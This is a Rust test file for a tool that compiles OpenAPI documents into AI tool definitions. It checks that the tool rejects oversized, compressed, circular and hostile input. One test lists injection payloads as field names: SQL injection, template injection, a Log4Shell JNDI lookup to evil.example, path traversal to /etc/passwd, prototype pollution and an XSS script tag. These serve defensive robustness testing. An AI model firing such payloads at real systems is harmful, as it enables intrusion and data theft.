//! Documents that somebody made to do harm.

use serde_json::{Value, json};

use crate::{
    Bundle, CompileError, Integration,
    tests::documents::{assert_valid, compiled, document, try_compiled},
};

#[test]
fn what_is_too_large_is_refused_unread() {
    let large = vec![b' '; 200 << 20];
    let integration = Integration::parse(b"name: A\nunique_key: a").unwrap();
    let refused = crate::compile(integration, &large, "1").unwrap_err();
    assert!(matches!(refused, CompileError::TooLarge(_)), "{refused}");
    let refused = Bundle::new(large, "https://a.example").unwrap_err();
    assert!(matches!(refused, CompileError::TooLarge(_)), "{refused}");
}

#[test]
fn what_is_packed_is_no_text() {
    for packed in [
        &b"\x1f\x8b\x08\x00"[..],
        b"PK\x03\x04",
        b"BZh9",
        b"\x28\xb5\x2f\xfd",
    ] {
        let integration = Integration::parse(b"name: A\nunique_key: a").unwrap();
        let refused = crate::compile(integration, packed, "1").unwrap_err();
        let is_known = matches!(
            refused,
            CompileError::Syntax(_) | CompileError::NotOpenApi(_)
        );
        assert!(is_known, "{packed:?}: {refused}");
    }
}

#[test]
fn a_million_operations_are_refused() {
    let mut text =
        String::from(r#"{"openapi":"3.0.3","info":{"title":"A","version":"1"},"paths":{"#);
    for at in 0..1_000_000 {
        text.push_str(&format!(r#""/{at}":{{"get":{{}}}},"#));
    }
    text.push_str(r#""/":{}}}"#);
    let integration = Integration::parse(b"name: A\nunique_key: a").unwrap();
    let refused = crate::compile(integration, text.as_bytes(), "1").unwrap_err();
    assert!(matches!(refused, CompileError::TooLarge(_)), "{refused}");
}

#[test]
fn circles_of_every_kind_cost_their_own_operation_at_most() {
    let circle = |section: &str| json!({"$ref": format!("#/components/{section}/one")});
    let two = |section: &str| json!({"one": {"$ref": format!("#/components/{section}/two")}, "two": circle(section)});
    let body = |schema: Value| json!({"content": {"application/json": {"schema": schema}}});
    let mut document = document(&json!({
        "/good": {"get": {"summary": "Good", "responses": {}}},
        "/parameter": {"get": {"summary": "Parameter", "parameters": [circle("parameters")], "responses": {}}},
        "/body": {"post": {"summary": "Body", "requestBody": circle("requestBodies"), "responses": {}}},
        "/response": {"get": {"summary": "Response", "responses": {"200": circle("responses")}}},
        "/schema": {"post": {"summary": "Schema", "requestBody": body(circle("schemas")), "responses": {"200": body(circle("schemas"))}}},
        "/parts": {"post": {"summary": "Parts", "requestBody": body(json!({"$ref": "#/components/schemas/parts"})), "responses": {}}},
        "/not": {"post": {"summary": "Not", "requestBody": body(json!({"$ref": "#/components/schemas/not"})), "responses": {}}},
        "/example": {"get": {"summary": "Example", "responses": {}, "parameters": [
            {"name": "a", "in": "query", "schema": {"type": "string"}, "examples": {"a": circle("examples")}}]}},
        "/item": {"$ref": "#/paths/~1item"},
        "/there": {"$ref": "#/paths/~1back"},
        "/back": {"$ref": "#/paths/~1there"},
    }));
    document["security"] = json!([{"one": []}]);
    document["components"] = json!({});
    for section in [
        "parameters",
        "requestBodies",
        "responses",
        "schemas",
        "examples",
        "securitySchemes",
    ] {
        document["components"][section] = two(section);
    }
    let schemas = &mut document["components"]["schemas"];
    schemas["parts"] = json!({"allOf": [{"$ref": "#/components/schemas/parts"}], "properties": {"a": {"type": "string"}}});
    schemas["not"] = json!({"not": {"$ref": "#/components/schemas/not"}, "type": "object"});
    let compiled = compiled(&document);
    assert_eq!(compiled.toolkit.tools.len(), 8, "{:?}", compiled.report);
    assert!(!compiled.report.is_clean());
    for plan in compiled.toolkit.tools.values() {
        let input = compiled.toolkit.input_schema(plan).to_value();
        assert_valid(&input);
        if let Ok(validator) = jsonschema::draft202012::new(&input) {
            let _ = validator.is_valid(&json!({"a": "b", "body": {}}));
        }
    }
    assert!(Integration::of_document("a", document.to_string().as_bytes()).is_ok());
}

#[test]
fn names_are_data_whatever_they_say() {
    let names = [
        "'; DROP TABLE tools; --",
        "{{api_key}}",
        "{% for x in range(9) %}",
        "${jndi:ldap://evil.example}",
        "../../etc/passwd",
        "__proto__",
        "a\"b\\c",
        "<script>alert(1)</script>",
        "🦀",
        "%00%2e%2e",
    ];
    let properties: serde_json::Map<String, Value> = names
        .iter()
        .map(|name| {
            (
                (*name).to_owned(),
                json!({"type": "string", "description": name}),
            )
        })
        .collect();
    let paths: serde_json::Map<String, Value> = names
        .iter()
        .map(|name| {
            let operation = json!({"summary": name, "operationId": name, "tags": [name], "responses": {},
                "requestBody": {"content": {"application/json": {"schema": {"type": "object", "properties": properties}}}}});
            (format!("/{}", name.replace('/', "~")), json!({"post": operation}))
        })
        .collect();
    let compiled = try_compiled(&document(&Value::Object(paths))).unwrap();
    let report = &compiled.report;
    assert_eq!(
        report.tools + report.skipped.len(),
        names.len(),
        "{report:?}"
    );
    for plan in compiled.toolkit.tools.values() {
        let is_plain =
            |byte: u8| byte.is_ascii_uppercase() || byte.is_ascii_digit() || byte == b'_';
        assert!(plan.slug.bytes().all(is_plain), "{}", plan.slug);
        let mut own: Vec<&str> = plan
            .arguments
            .iter()
            .map(|argument| argument.wire_name.as_str())
            .collect();
        own.retain(|name| names.contains(name));
        assert_eq!(own.len(), names.len(), "{own:?}");
        assert_valid(&compiled.toolkit.input_schema(plan).to_value());
    }
}
